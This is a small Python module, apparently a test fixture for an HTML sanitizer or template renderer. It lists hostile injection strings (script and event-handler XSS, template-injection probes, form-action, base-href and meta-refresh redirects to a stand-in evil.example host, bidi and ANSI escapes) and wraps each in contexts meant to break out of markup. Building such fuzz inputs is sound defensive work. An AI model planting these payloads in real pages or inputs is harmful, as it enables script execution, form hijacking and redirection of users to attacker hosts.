"""Texts that want to break out of a page, and all of them in every place from which they might."""

__all__ = ["HOSTILE", "wrapped"]

HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "</template><script>1</script>", '"><script>1</script>', "' onmouseover='alert(1)", "{{ 7 * 7 }}",
    "<a href=javascript:alert(1)>x</a>", "{% include 'x' %}", "<style>*{display:none}</style>",
    "<div hx-get=//evil.example hx-trigger=load>", "<input name=form_token value=x>",
    "</form><form action=//evil.example>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "\u202eevil\u202c", "\x1b[31mred\x1b[0m",
    "&lt;b&gt;", "<iframe srcdoc='<script>1</script>'>", "<!-- --><script>1</script>",
    "<object data=//evil.example>", "]]><x>",
]  # fmt: skip

WRAPS = (
    "{}", "a {} b", '"{}"', "'{}'", "{}\u202e", "<b>{}", "--> {}", "*/{}", "]]>{}", "%3C{}", "&#60;{}", "\\{}", "`{}`",
    "</textarea>{}", "</title>{}",
)  # fmt: skip


def wrapped() -> list[str]:
    """Return every hostile text in every place from which it could break out."""
    return [wrap.replace("{}", text) for wrap in WRAPS for text in HOSTILE]
